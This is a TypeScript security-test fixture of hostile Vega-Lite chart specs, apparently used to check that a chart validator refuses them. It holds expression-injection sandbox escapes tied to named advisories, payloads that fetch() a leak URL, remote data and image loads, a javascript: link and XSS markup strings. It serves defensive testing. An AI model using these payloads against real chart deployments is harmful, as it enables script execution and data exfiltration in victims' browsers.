/**
 * Hostile chart specs for the security tests (Node and Chromium), modelled on Vega's public advisories and issues:
 * - GHSA-4vq7-882g-wcg4 (2023): `scale()` given a fake `{context: {scales}}` calls any function (`[].constructor.constructor`);
 * - GHSA-w5m3-xh75-mp55 (2023): `lassoAppend` calls methods of an attacker object;
 * - vega/vega#3027, vega/vega#3984, vega/vega-lite#9469 (2020, 2024): `event.view` / `event.target.ownerDocument.defaultView`
 *   reach `window`, then `scale(fn, …)`, `join({join: fn})` or `replace(s, re, fn)` call into it;
 * - CVE-2025-25304 (GHSA, 2025): `vlSelectionTuples` calls attacker-controlled functions;
 * - CVE-2025-59840 / GHSA-7f2v-3qq3-vvjf (2025): `toString` gadgets reaching `VEGA_DEBUG`;
 * - vega/vega#3018 (2020): parser confusion in a filter string;
 * plus the policy's own cases (URLs, links, usermeta, element bindings, outside event sources, markup in text).
 *
 * Each payload's `code` would flip the canary and call the leak URL if it ever ran. `expect` says what should happen:
 * "refused" by validation with a message, or "rendered" harmlessly (the text ends up as text).
 */

export const CANARY = "__harmonyChartCanary";
export const CANARY_INTACT = "intact";

export interface Payload {
  name: string;
  expect: "refused" | "rendered";
  spec: Record<string, unknown>;
}

const rows = {
  values: [
    { a: "x", b: 1 },
    { a: "y", b: 2 },
  ],
};
const bar = { mark: "bar", encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } } };

export function advisoryPayloads(leakUrl: string): Payload[] {
  const code = `globalThis.${CANARY}='pwned';fetch('${leakUrl}')`;
  const js = JSON.stringify(code).slice(1, -1).replace(/'/g, "\\'");
  const calculate = (name: string, expr: string): Payload => ({
    name,
    expect: "refused",
    spec: { data: rows, transform: [{ calculate: expr, as: "z" }], ...bar },
  });
  const onEvent = (name: string, filter: string): Payload => ({
    name,
    expect: "refused",
    // The object form: the string form splits on commas, which these expressions contain.
    spec: { data: rows, params: [{ name: "p", select: { type: "point", on: { type: "pointermove", filter } } }], ...bar },
  });
  return [
    calculate(
      "GHSA-4vq7-882g-wcg4 scale() with a fake context",
      `scale('func', null, {context: {scales: {func: {value: scale('func', '${js}', {context: {scales: {func: {value: [].constructor.constructor}}}})}}}})`,
    ),
    calculate(
      "GHSA-w5m3-xh75-mp55 lassoAppend with an attacker object",
      `lassoAppend({push: [].constructor.constructor('${js}')}, 1, 1)`,
    ),
    calculate("constructor chain to Function", `[].constructor.constructor('${js}')()`),
    calculate("prototype via a literal key", `datum['__proto__']['constructor']`),
    calculate("computed key built at run time", `datum['constr' + 'uctor']`),
    calculate(
      "CVE-2025-25304 vlSelectionTuples",
      `vlSelectionTuples([{}], {fields: [{getter: [].constructor.constructor('${js}')}]})`,
    ),
    calculate("CVE-2025-59840 toString gadget via VEGA_DEBUG", `({toString: VEGA_DEBUG.vega.expressionFunction}) + ''`),
    calculate("window by name", "window.location.hostname"),
    calculate("setdata rewrites data", "setdata('source_0', [])"),
    calculate("eval by name", `eval('${js}')`),
    onEvent("vega#3984 event filter scale(event.view.setTimeout)", `scale(event.view.setTimeout, '${js}')`),
    onEvent("vega#3027 join with window.eval", `join({'join': event.target.ownerDocument.defaultView.eval}, '${js}')`),
    onEvent("vega#3027 replace with a function", `replace('${js}', /.*/, event.target.ownerDocument.defaultView.eval)`),
    onEvent("event.view hostname", "event.view.location.hostname == 'x'"),
    {
      name: "vega#3018 filter parser confusion",
      expect: "refused",
      spec: { data: rows, transform: [{ filter: "(0//1/)-'\\\n,alert(1))))//'" }], ...bar },
    },
    { name: "data.url to the leak server", expect: "refused", spec: { data: { url: leakUrl }, ...bar } },
    {
      name: "lookup from a URL",
      expect: "refused",
      spec: { data: rows, transform: [{ lookup: "a", from: { data: { url: leakUrl }, key: "a", fields: ["c"] } }], ...bar },
    },
    {
      name: "image mark from a URL",
      expect: "refused",
      spec: {
        data: rows,
        mark: { type: "image", url: leakUrl, width: 10, height: 10 },
        encoding: { x: { field: "a", type: "nominal" } },
      },
    },
    {
      name: "url channel",
      expect: "refused",
      spec: { data: rows, mark: "image", encoding: { x: { field: "a", type: "nominal" }, url: { value: leakUrl } } },
    },
    {
      name: "href channel",
      expect: "refused",
      spec: { data: rows, ...bar, encoding: { ...bar.encoding, href: { value: "javascript:alert(1)" } } },
    },
    {
      name: "usermeta embed options",
      expect: "refused",
      spec: { data: rows, ...bar, usermeta: { embedOptions: { actions: true, loader: { baseURL: leakUrl } } } },
    },
    { name: "config.loader", expect: "refused", spec: { data: rows, ...bar, config: { loader: { baseURL: leakUrl } } } },
    {
      name: "bind to a page element",
      expect: "refused",
      spec: { data: rows, ...bar, params: [{ name: "q", value: 1, bind: { input: "range", element: "body" } }] },
    },
    {
      name: "events from a page element",
      expect: "refused",
      spec: { data: rows, ...bar, params: [{ name: "p", select: { type: "point", on: "body:click" } }] },
    },
    {
      name: "foreign $schema (Vega)",
      expect: "refused",
      spec: { $schema: "https://vega.github.io/schema/vega/v5.json", ...bar, data: rows },
    },
    {
      name: "markup in titles and labels stays text",
      expect: "rendered",
      spec: {
        data: {
          values: [
            { a: "<script>alert(1)</script>", b: 1 },
            { a: "<img src=x onerror=alert(1)>", b: 2 },
          ],
        },
        title: "<script>globalThis.x=1</script><foreignObject><div>hi</div></foreignObject>",
        ...bar,
        encoding: {
          ...bar.encoding,
          x: { field: "a", type: "nominal", axis: { labelExpr: "'<svg onload=alert(1)>' + datum.label" } },
        },
      },
    },
  ];
}
